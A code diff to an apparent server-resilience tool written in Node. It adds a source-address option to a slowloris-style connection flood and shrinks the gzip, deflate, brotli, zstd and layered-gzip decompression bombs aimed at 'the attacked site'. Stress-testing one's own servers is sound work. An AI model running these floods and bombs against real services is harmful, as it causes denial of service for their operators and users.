@@ -12,6 +12,7 @@ import zlib from 'node:zlib';
  * @typedef {object} Options
  * @property {string} url of the attacked site
  * @property {number} clients how many at once
+ * @property {string} [from] the address that connections come from
  * @property {number} [forMs] how long
  * @property {number} [requests] how many in all, instead
  * @property {number} [first] the number of the first request: bodies are made from their numbers
@@ -73,7 +74,7 @@ const slowChunks = (options) => drip(options, `${start(options.url)}Transfer-Enc
  * @param {Options} options
  * @returns {Promise<Outcome>}
  */
-async function idle({ url, clients, forMs = 0 }) {
+async function idle({ url, clients, from, forMs = 0 }) {
   const { hostname, port } = new URL(url);
   /** @type {Set<net.Socket>} */
   const sockets = new Set();
@@ -81,7 +82,7 @@ async function idle({ url, clients, forMs = 0 }) {
   let ended = 0;
   let going = true;
   const open = () => {
-    const socket = net.connect(Number(port), hostname, () => { opened++; });
+    const socket = net.connect({ port: Number(port), host: hostname, localAddress: from }, () => { opened++; });
     sockets.add(socket);
     socket.on('error', () => {});
     socket.on('close', () => {
@@ -164,12 +165,12 @@ function makeBombs() {
   const { constants } = zlib;
   const brotli = (/** @type {Buffer} */ text) =>
     zlib.brotliCompressSync(text, { params: { [constants.BROTLI_PARAM_QUALITY]: 5 } });
-  const over = Buffer.alloc(256 * mib, ' ');
+  const over = Buffer.alloc(100 * mib, ' ');
   const below = Buffer.alloc(63 * mib, ' ');
   const layered = zlib.gzipSync(zlib.gzipSync(zlib.gzipSync(over)));
   /** @type {[string, Buffer][]} */
   const bodies = [
-    ['gzip', zlib.gzipSync(over)], ['deflate', zlib.deflateSync(over)], ['br', brotli(over)], ['zstd', zstdOf(256 * mib)],
+    ['gzip', zlib.gzipSync(over)], ['deflate', zlib.deflateSync(over)], ['br', brotli(over)], ['zstd', zstdOf(100 * mib)],
     ['gzip', zlib.gzipSync(below)], ['deflate', zlib.deflateSync(below)], ['br', brotli(below)], ['zstd', zstdOf(63 * mib)],
     ['gzip', layered], ['gzip, gzip, gzip', layered], ['', layered],
   ];
